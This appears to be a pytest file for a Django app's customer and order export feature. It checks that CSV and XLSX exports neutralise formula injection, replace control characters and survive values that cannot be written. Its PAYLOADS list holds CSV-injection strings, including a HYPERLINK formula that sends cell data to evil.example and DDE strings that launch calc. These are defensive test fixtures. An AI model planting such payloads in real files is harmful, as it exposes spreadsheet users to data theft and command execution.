"""Exports are safe to open: no formula runs, no control character breaks the file or the export."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from tests.helpers import make_customer, make_order
from tests.imports.exporting import body as file_body
from tests.imports.exporting import export_through_screen

from huitouke.customers.models import Customer
from huitouke.imports.actions import do_commit_import
from huitouke.imports.exports import do_export
from huitouke.imports.reports import neutralise, write_table
from huitouke.sales.models import Order

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("huey_immediate")]

# OWASP CSV injection: a cell starting with = + - @ tab or CR is a formula to a spreadsheet.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_formula_payload_is_neutralised_in_csv_and_xlsx(client, owner, org):
    for payload in PAYLOADS:
        make_customer(org, name=payload, phone=None, city=payload)
    stored = Customer.objects.values_list("name", flat=True)
    expected = sorted(n if n[0].isalnum() else "'" + n for n in stored)
    assert all(n.startswith("'") for n in expected)
    client.force_login(owner)
    for fmt in ("csv", "xlsx"):
        response, _job = export_through_screen(client, "customers", fmt, lang="en")
        body = file_body(response)
        if fmt == "csv":
            rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
            names = sorted(r["name"] for r in rows)
            cities = sorted(r["city"] for r in rows)
        else:
            sheet = load_workbook(io.BytesIO(body)).active
            header, *data = list(sheet.iter_rows(values_only=True))
            names = sorted(r[header.index("name")] for r in data)
            cities = sorted(r[header.index("city")] for r in data)
            # No cell of the file is a formula.
            for row in load_workbook(io.BytesIO(body)).active.iter_rows():
                assert all(cell.data_type != "f" for cell in row)
        assert names == expected, fmt
        if fmt == "xlsx":  # XML reads a CR back as a line feed; still quoted
            cities = sorted(c.replace("\n", "\r") for c in cities)
        assert cities == sorted("'" + p for p in PAYLOADS), fmt


def test_a_control_character_in_one_name_does_not_break_the_xlsx_export(client, owner, org):
    make_customer(org, name="林\x01晓\x1b雨\x07", phone="13800138000")
    make_customer(org, name="陈静", phone="13800138001")
    client.force_login(owner)
    response, _job = export_through_screen(client, "customers", "xlsx")
    sheet = load_workbook(io.BytesIO(file_body(response))).active
    names = sorted(row[1] for row in list(sheet.iter_rows(values_only=True))[1:])
    assert names == ["林\ufffd晓\ufffd雨\ufffd", "陈静"]


def test_one_unwritable_value_never_fails_the_whole_export(tmp_path):
    class Broken:
        def __str__(self) -> str:
            raise RuntimeError("no text for this one")

    rows = [["ok", 1], [Broken(), 2], ["also ok", 3]]
    for fmt in ("csv", "xlsx"):
        path = tmp_path / f"t.{fmt}"
        assert write_table(path, fmt, ["a", "b"], rows) == 3
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert [r[0] for r in sheet.iter_rows(values_only=True)] == ["a", "ok", "\ufffd", "also ok"]


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    assert neutralise("-12.50") == "'-12.50"  # text that looks like a formula: quoted
    assert neutralise("林晓雨") == "林晓雨"
    assert neutralise("a=b") == "a=b"
    assert neutralise("") == ""


def test_a_neutralised_orders_export_reimports_with_the_original_text(
    tmp_path, org, store1, other_org, other_store
):
    lin = make_customer(org, name="=林晓雨", phone="13800138000")
    make_order(lin, store1, note="-满减", unit_price="50.00")
    path = tmp_path / "orders.csv"
    do_export(path, kind="orders", fmt="csv", organisation=org, actor=None)
    assert "'=林晓雨" in path.read_text(encoding="utf-8-sig")
    summary = do_commit_import(
        path, organisation=other_org, store=other_store, kind="orders", actor=None
    )
    assert (summary.created, summary.errors) == (1, [])
    copy = Order.objects.get(organisation=other_org)
    assert copy.customer.name == "=林晓雨"
